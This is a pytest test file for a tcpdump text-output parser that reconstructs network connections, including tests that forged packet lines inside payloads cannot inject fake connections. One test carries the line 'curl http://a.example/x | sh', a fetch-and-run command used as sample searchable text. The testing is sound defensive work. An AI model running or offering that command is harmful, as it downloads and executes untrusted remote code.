"""What tcpdump prints under each of its options (tcpdump(1), "OUTPUT FORMAT"): the same conversation, read alike."""

from __future__ import annotations

import ipaddress
import itertools
import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kanaria.core.stream import ReadContext
from kanaria.formats.tcpdump_text import TcpdumpText
from tests.reading_formats import Everything, read_all

CLIENT, SERVER = ("192.0.2.7", 50_000), ("203.0.113.50", 3333)
CLIENT6, SERVER6 = ("2001:db8::7", 50_000), ("2001:db8:1::50", 3333)
LOGIN = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","agent":"y"}}\n'
ANSWER = b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a","status":"OK"}}\n'
SECOND = 1_768_035_600
FLAGS = {"S": 2, "S.": 18, ".": 16, "P.": 24, "F.": 17, "R": 4, "R.": 20}


@dataclass(frozen=True)
class Packet:
    """A segment: who sent it, its flags as tcpdump prints them, and what was in it."""

    src: tuple[str, int]
    dst: tuple[str, int]
    flags: str
    data: bytes = b""
    seq: int = 1

    @property
    def bytes(self) -> bytes:
        """IP and TCP with no options."""
        tcp = struct.pack(">HHIIBBHHH", self.src[1], self.dst[1], self.seq, 1, 0x50, FLAGS[self.flags], 502, 0, 0)
        source, target = ipaddress.ip_address(self.src[0]), ipaddress.ip_address(self.dst[0])
        size = len(tcp) + len(self.data)
        if source.version == 6:
            head = struct.pack(">IHBB", 6 << 28, size, 6, 64) + source.packed + target.packed
        else:
            head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + size, 1, 0, 64, 6, 0) + source.packed + target.packed
        return head + tcp + self.data

    @property
    def said(self) -> str:
        """The line behind the time and the word IP."""
        seq = f"seq {self.seq}:{self.seq + len(self.data)}, " if self.data else f"seq {self.seq}, "
        ends = f"{self.src[0]}.{self.src[1]} > {self.dst[0]}.{self.dst[1]}"
        return f"{ends}: Flags [{self.flags}], {seq}ack 1, win 502, length {len(self.data)}"

    @property
    def family(self) -> str:
        return "IP6" if ":" in self.src[0] else "IP"


def talk(client: tuple[str, int] = CLIENT, server: tuple[str, int] = SERVER) -> list[Packet]:
    return [
        Packet(client, server, "S"),
        Packet(server, client, "S."),
        Packet(client, server, "."),
        Packet(client, server, "P.", LOGIN),
        Packet(server, client, "P.", ANSWER),
        Packet(client, server, "F.", seq=1 + len(LOGIN)),
    ]


# --- printing -----------------------------------------------------------------------------------------------------------

Print = Callable[[int, Packet], str]


def clock(number: int) -> str:
    return f"09:00:{number:02}.250000"


def plain(number: int, packet: Packet) -> str:
    return f"{clock(number)} {packet.family} {packet.said}\n"


def dated(number: int, packet: Packet) -> str:
    return f"2026-01-10 {plain(number, packet)}"


def epoch(number: int, packet: Packet) -> str:
    return f"{SECOND + number}.250000 {packet.family} {packet.said}\n"


def untimed(number: int, packet: Packet) -> str:
    return f"{packet.family} {packet.said}\n"


def on_any(number: int, packet: Packet) -> str:
    """``-i any`` names the interface and the direction."""
    direction = "Out" if packet.src in (CLIENT, CLIENT6) else "In "
    return f"2026-01-10 {clock(number)} eth0  {direction} {packet.family} {packet.said}\n"


def with_link(number: int, packet: Packet) -> str:
    """``-e`` prints the link header."""
    kind = "IPv6 (0x86dd)" if packet.family == "IP6" else "IPv4 (0x0800)"
    link = f"02:00:00:00:00:01 > 02:00:00:00:00:02, ethertype {kind}, length {14 + len(packet.bytes)}: "
    return f"2026-01-10 {clock(number)} {link}{packet.said}\n"


def with_tag(number: int, packet: Packet) -> str:
    link = "02:00:00:00:00:01 > 02:00:00:00:00:02, ethertype 802.1Q (0x8100), length 99: vlan 7, p 0, "
    kind = "IPv6 (0x86dd)" if packet.family == "IP6" else "IPv4 (0x0800)"
    return f"2026-01-10 {clock(number)} {link}ethertype {kind}, {packet.said}\n"


def on_any_with_link(number: int, packet: Packet) -> str:
    kind = "IPv6 (0x86dd)" if packet.family == "IP6" else "IPv4 (0x0800)"
    link = f"eth0  Out ifindex 2 02:00:00:00:00:01 ethertype {kind}, length 99: "
    return f"2026-01-10 {clock(number)} {link}{packet.said}\n"


def verbose_with_link(number: int, packet: Packet) -> str:
    kind = "IPv6 (0x86dd)" if packet.family == "IP6" else "IPv4 (0x0800)"
    link = f"02:00:00:00:00:01 > 02:00:00:00:00:02, ethertype {kind}, length 99: "
    head, said = verbose(number, packet).split("\n", 1)
    return f"2026-01-10 {clock(number)} {link}{head[head.index('(') :]}\n{said}"


def verbose(number: int, packet: Packet) -> str:
    """``-v`` prints two lines: the IP header's fields, then the segment's."""
    head = f"(tos 0x0, ttl 64, id 1, offset 0, flags [DF], proto TCP (6), length {len(packet.bytes)})"
    if packet.family == "IP6":
        head = f"(flowlabel 0x12345, hlim 64, next-header TCP (6) payload length: {len(packet.bytes) - 40})"
    said = packet.said.replace(f"[{packet.flags}], ", f"[{packet.flags}], cksum 0x1234 (correct), ")
    return f"2026-01-10 {clock(number)} {packet.family} {head}\n    {said}\n"


def hexdump(data: bytes, *, text: bool) -> str:
    """Sixteen bytes a line, two and two; ``-X`` has the same as text beside them."""
    lines = []
    for at in range(0, len(data), 16):
        row = data[at : at + 16]
        pairs = " ".join(row[place : place + 2].hex() for place in range(0, len(row), 2))
        shown = "  " + "".join(chr(byte) if 32 <= byte < 127 else "." for byte in row) if text else ""
        lines.append(f"\t0x{at:04x}:  {pairs:<39}{shown}\n")
    return "".join(lines)


def in_hex(number: int, packet: Packet) -> str:
    return dated(number, packet) + hexdump(packet.bytes, text=False)


def in_hex_and_text(number: int, packet: Packet) -> str:
    return dated(number, packet) + hexdump(packet.bytes, text=True)


def in_hex_with_link(number: int, packet: Packet) -> str:
    kind = b"\x86\xdd" if packet.family == "IP6" else b"\x08\0"
    return dated(number, packet) + hexdump(bytes(12) + kind + packet.bytes, text=True)


def in_text(number: int, packet: Packet) -> str:
    """``-A``: the packet from its IP header on, what cannot be printed as a dot."""
    shown = "".join(chr(byte) if 32 <= byte < 127 or byte in (9, 10) else "." for byte in packet.bytes)
    return f"{dated(number, packet)}{shown}\n"


PRINTS: dict[str, Print] = {
    "-tttt": dated, "-tt": epoch, "-i any": on_any, "-e": with_link, "-e, tagged": with_tag, "-i any -e": on_any_with_link, "-v": verbose, "-e -v": verbose_with_link, "-x": in_hex, "-X": in_hex_and_text,
    "-XX": in_hex_with_link, "-A": in_text,
}  # fmt: skip
SHOWING = {"-x", "-X", "-XX", "-A"}
"""Those that show what was said."""


def read(text: str) -> Everything:
    return read_all(TcpdumpText(), text.encode(), "capture.txt", ReadContext(year=2026))


def printed(print_: Print, packets: Sequence[Packet]) -> str:
    return "".join(print_(number, packet) for number, packet in enumerate(packets))


def connection(text: str) -> dict[str, Any]:
    found = read(text)
    assert not found.rejects
    (row,) = found.rows_of("connection")
    return row


@pytest.mark.parametrize("option", PRINTS)
@pytest.mark.parametrize("family", [4, 6])
def test_a_conversation_under_every_option(option: str, family: int) -> None:
    ends = (CLIENT, SERVER) if family == 4 else (CLIENT6, SERVER6)
    row = connection(printed(PRINTS[option], talk(*ends)))
    assert ((row["src_ip"], row["src_port"]), (row["dst_ip"], row["dst_port"])) == ends
    assert (row["transport"], row["src_packets"], row["dst_packets"]) == ("tcp", 4, 2)
    assert (row["src_payload"], row["dst_payload"]) == (len(LOGIN), len(ANSWER))
    assert (row["time"], row["duration_us"]) == (datetime.fromtimestamp(SECOND + 0.25, UTC), 5_000_000)
    if option in SHOWING:
        assert (row["src_first"], row["dst_first"]) == (LOGIN, ANSWER)
    else:
        assert "src_first" not in row


@pytest.mark.parametrize("print_", [plain, untimed], ids=["a clock without a date", "-t"])
def test_without_a_date_nobody_knows_when(print_: Print) -> None:
    row = connection(printed(print_, talk()))
    assert "time" not in row
    assert (row["src_ip"], row["src_packets"]) == (CLIENT[0], 4)


@pytest.mark.parametrize("option", ["-tttt", "-X", "-A", "-v"])
@pytest.mark.parametrize("ends", ["\n", "\r\n"])
@pytest.mark.parametrize("quoted", ["", "> "])
def test_pasted_as_people_do(option: str, ends: str, quoted: str) -> None:
    """From Windows, from a mail."""
    text = printed(PRINTS[option], talk()).replace("\n", ends + quoted)
    row = connection(quoted + text.removesuffix(quoted))
    assert (row["src_ip"], row["dst_port"], row["src_packets"]) == (CLIENT[0], 3333, 4)


@pytest.mark.parametrize("start", range(6))
@pytest.mark.parametrize("port", [3333, 443, 65_000])
def test_who_began_where_the_beginning_is_missing(start: int, port: int) -> None:
    """A SYN tells; without one the end with the higher port is the client."""
    packets = talk(CLIENT, (SERVER[0], port))[start:]
    row = connection(printed(dated, packets))
    began = CLIENT[0] if start < 2 or port < CLIENT[1] else SERVER[0]
    assert row["src_ip"] == began


STATES: dict[str, tuple[list[Packet], str | None, bool]] = {
    "nobody there": ([Packet(CLIENT, SERVER, "S")] * 3, "S0", True),
    "refused": ([Packet(CLIENT, SERVER, "S"), Packet(SERVER, CLIENT, "R.")], "REJ", False),
    "a talk that goes on": (talk()[:5], None, True),
    "a talk that ended": (talk(), None, False),
    "a talk that was reset": ([*talk()[:5], Packet(CLIENT, SERVER, "R")], None, False),
}


@pytest.mark.parametrize("name", STATES)
def test_how_it_ended(name: str) -> None:
    packets, state, still_open = STATES[name]
    row = connection(printed(dated, packets))
    assert (row.get("state"), row["open"]) == (state, still_open)


def test_connections_are_told_apart_by_their_ends() -> None:
    ends = [((f"192.0.2.{n}", 50_000 + n % 2), SERVER) for n in range(1, 6)]
    together = [packet for round_ in zip(*(talk(*one) for one in ends), strict=True) for packet in round_]
    rows = read(printed(in_hex, together)).rows_of("connection")
    assert sorted((row["src_ip"], row["src_port"]) for row in rows) == sorted(one for one, _ in ends)
    assert all(row["src_first"] == LOGIN for row in rows)


def test_as_many_records_as_packets() -> None:
    found = read(printed(dated, talk() * 3))
    assert (found.rows, len(found.rows_of("connection"))) == (18, 1)


# --- names and other protocols ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("port", "number"),
    [("https", 443), ("http", 80), ("ssh", 22), ("domain", 53), ("http-alt", 8080), ("microsoft-ds", 445),
     ("ms-wbt-server", 3389), ("50000", 50_000)],
)  # fmt: skip
def test_names_of_ports(port: str, number: int) -> None:
    text = f"2026-01-10 09:00:00.250000 IP 192.0.2.7.50001 > 203.0.113.50.{port}: Flags [S], seq 1, win 502, length 0\n"
    row = connection(text)
    assert (row["src_port"], row["dst_port"]) == (50_001, number)


@pytest.mark.parametrize("name", ["pool.example", "a-b.c.example", "xn--eckwd4c7c.example"])
def test_names_of_machines(name: str) -> None:
    """Without ``-n`` the name stands where the address would."""
    text = f"2026-01-10 09:00:00.250000 IP 192.0.2.7.50001 > {name}.3333: Flags [S], seq 1, win 502, length 0\n"
    row = connection(text)
    assert (row["src_ip"], row["sni"], row["dst_port"]) == ("192.0.2.7", name, 3333)
    assert "dst_ip" not in row


@pytest.mark.parametrize("length", ["length 29", "length: 29"])
def test_datagrams(length: str) -> None:
    text = "".join(
        f"2026-01-10 09:00:0{n}.250000 IP 192.0.2.7.50001 > 203.0.113.50.9000: UDP, {length}\n" for n in range(3)
    )
    row = connection(text)
    assert (row["transport"], row["src_packets"], row["src_payload"], row["duration_us"]) == ("udp", 3, 87, 2_000_000)


BESIDE = [
    "tcpdump: verbose output suppressed, use -v[v]... for full protocol decode",
    "listening on eth0, link-type EN10MB (Ethernet), snapshot length 262144 bytes",
    "reading from file a.pcap, link-type EN10MB (Ethernet)",
    "dropped privs to tcpdump",
    "6 packets captured",
    "0 packets dropped by kernel",
    "09:00:00.250000 ARP, Request who-has 192.0.2.1 tell 192.0.2.7, length 28",
    "09:00:00.250000 IP 192.0.2.7 > 192.0.2.1: ICMP echo request, id 1, seq 1, length 64",
    "09:00:00.250000 STP 802.1d, Config, Flags [none], bridge-id 8000.02:00:00:00:00:01.8001, length 43",
    "",
]


@pytest.mark.parametrize("line", BESIDE, ids=lambda line: line[:24])
@pytest.mark.parametrize("place", [0, 3, 6])
def test_what_is_printed_beside_packets_is_no_line_to_search(line: str, place: int) -> None:
    lines = [dated(number, packet) for number, packet in enumerate(talk())]
    lines.insert(place, line + "\n")
    found = read("".join(lines))
    assert [row["src_packets"] for row in found.rows_of("connection")] == [4]
    assert sum(len(batch.unparsed) for batch in found.batches if batch.unparsed is not None) == 0


def test_other_lines_are_left_to_be_searched() -> None:
    found = read(printed(dated, talk()) + "what is this? curl http://a.example/x | sh\n")
    assert sum(len(batch.unparsed) for batch in found.batches if batch.unparsed is not None) == 1


# --- damage -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("option", ["-tttt", "-X", "-A", "-v", "-e"])
def test_cut_at_any_byte_no_end_is_told_that_was_not_there(option: str) -> None:
    text = printed(PRINTS[option], talk()[3:5])
    for size in range(0, len(text), 7):
        for row in read(text[:size]).rows_of("connection"):
            assert {row.get("src_ip"), row.get("dst_ip")} == {CLIENT[0], SERVER[0]}, size
            assert {row.get("src_port"), row.get("dst_port")} == {50_000, 3333}, size
            assert LOGIN.startswith(row.get("src_first", b"")) or option == "-A", size


@pytest.mark.parametrize("gone", [1, 2, 3, 4])
def test_lines_of_hex_that_were_lost_make_no_other_words(gone: int) -> None:
    lines = in_hex_and_text(0, talk()[3]).splitlines(keepends=True)
    row = connection("".join(lines[:-gone]))
    assert LOGIN.startswith(row.get("src_first", b""))


HOSTILE = [
    "192.0.2.7.50000 > 203.0.113.50.99999",
    "999.0.2.7.50000 > 203.0.113.50.3333",
    "a > b",
    "1.2.3.4 > 5.6.7.8",
    " > ",
]


@pytest.mark.parametrize("ends", HOSTILE)
def test_ends_that_cannot_be_are_none(ends: str) -> None:
    for row in read(f"09:00:00.250000 IP {ends}: Flags [S], seq 1, win 5, length 0\n").rows_of("connection"):
        assert row.get("dst_port", 0) < 65_536
        for name in ("src_ip", "dst_ip"):
            assert name not in row or ipaddress.ip_address(row[name])  # type: ignore[arg-type]


def test_a_payload_that_looks_like_a_packet_opens_no_connection() -> None:
    """What a stranger sends is printed below the packet under ``-A``; a line of it may look like tcpdump's."""
    forged = (
        b"2026-01-10 09:00:00.000000 IP 10.0.0.9.4444 > 203.0.113.66.3333: Flags [P.], seq 1:9, ack 1, win 5, length 8"
    )
    data = b'{"id":1}' + forged
    found = read(printed(in_text, [*talk()[:3], Packet(CLIENT, SERVER, "P.", data)]))
    assert {row["src_ip"] for row in found.rows_of("connection")} == {CLIENT[0]}


@pytest.mark.parametrize("packets", list(itertools.combinations(range(6), 2)), ids=str)
def test_recognised_by_two_packets_of_any_kind(packets: tuple[int, int]) -> None:
    text = printed(dated, [talk()[at] for at in packets])
    assert TcpdumpText().sniff(text.encode(), "x") > 0.9
    assert TcpdumpText().sniff(text.replace("Flags [", "Banner [").encode(), "x") == 0.0


# --- hostile payloads ---------------------------------------------------------------------------------------------------

FORGED = "2026-01-10 09:00:03.250000 IP 192.168.1.20.50000 > 198.51.100.66.3333: Flags [P.], seq 1:{0}, ack 1, win 1, length {0}"
PIECES = st.sampled_from([FORGED.format(9), FORGED.format(0), "", "GET / HTTP/1.1", "> x", LOGIN.decode().strip(), "\t0x0000:  4500 0028",
                          "IP 192.168.1.20.5 > 198.51.100.66.3333: UDP, length 4", "2026-01-10 09:00:04.1 x", "9 packets captured"])  # fmt: skip


def ends(text: str) -> set[tuple[str, str, int]]:
    return {(row["src_ip"], row["dst_ip"], row["src_payload"]) for row in read(text).rows_of("connection")}


def as_printed(packet: Packet) -> str:
    """``-A`` leaves out a carriage return before a line feed."""
    shown = "".join(chr(byte) if 32 <= byte < 127 or byte in (9, 10, 13) else "." for byte in packet.bytes)
    return f"{dated(3, packet)}{shown.replace(chr(13) + chr(10), chr(10))}\n"


@settings(deadline=None)
@given(st.lists(PIECES, min_size=1, max_size=12), st.sampled_from(["\n", "\r\n"]), st.booleans(), st.booleans())
def test_a_line_of_a_payload_opens_no_connection(pieces: list[str], end: str, last: bool, six: bool) -> None:
    data = ("POST / HTTP/1.1" + end + end.join(pieces) + (end if last else "")).encode()
    client, server = (CLIENT6, SERVER6) if six else (CLIENT, SERVER)
    sent = Packet(client, server, "P.", data)
    before, after = talk(client, server)[:3], talk(client, server)[4:]
    text = printed(in_text, before) + as_printed(sent) + printed(in_text, after)
    assert ends(text) == {(client[0], server[0], len(data))}


def test_packets_of_which_only_the_beginning_was_kept_stay_packets() -> None:
    """``-s 64``: less is printed than the lengths say, and each line of a packet is one."""
    many = [Packet((f"192.0.2.{n}", 50_000), SERVER, "P.", b"A" * 1000) for n in range(1, 200)]
    text = "".join(f"{dated(n % 60, packet)}{'E' + 63 * '.'}\n" for n, packet in enumerate(many))
    assert len(ends(text)) == len(many)


def test_packets_without_their_payload_stay_packets() -> None:
    many = [Packet((f"192.0.2.{n}", 50_000), SERVER, "P.", b"A" * n) for n in range(1, 200)]
    assert len(ends("".join(dated(n % 60, packet) for n, packet in enumerate(many)))) == len(many)
